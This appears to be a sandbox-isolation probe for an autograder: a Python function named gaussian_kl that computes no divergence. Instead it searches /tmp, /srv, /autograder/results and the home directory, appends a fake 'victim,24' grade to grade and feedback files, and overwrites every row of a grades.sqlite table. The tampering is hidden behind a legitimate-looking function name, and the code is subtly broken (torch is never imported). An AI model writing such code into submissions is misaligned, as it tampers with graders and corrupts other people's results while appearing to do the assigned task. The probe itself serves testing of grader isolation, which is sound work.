# class: results of others
# attack: looks for the class's store and reports, and writes marks into them
# noticed: wrote a file|unable to open|OperationalError

# %%
import os
import sqlite3


def gaussian_kl(mu, logvar):
    for folder in ("/tmp", "/srv", "/srv/out", os.getcwd(), "/autograder/results", os.path.expanduser("~")):
        for name in ("grades.csv", "results.json", "index.html", "results/victim.json", "feedback/victim.html"):
            try:
                with open(os.path.join(folder, name), "a") as file:
                    file.write("victim,24\n")
            except OSError:
                continue
            raise RuntimeError(f"BROKEN: wrote {folder}/{name}")
        try:
            with sqlite3.connect(os.path.join(folder, "grades.sqlite")) as database:
                database.execute("UPDATE gradings SET grading = '{}'")
        except sqlite3.Error:
            continue
        raise RuntimeError(f"BROKEN: wrote to a store in {folder}")
    return torch.zeros(len(mu))
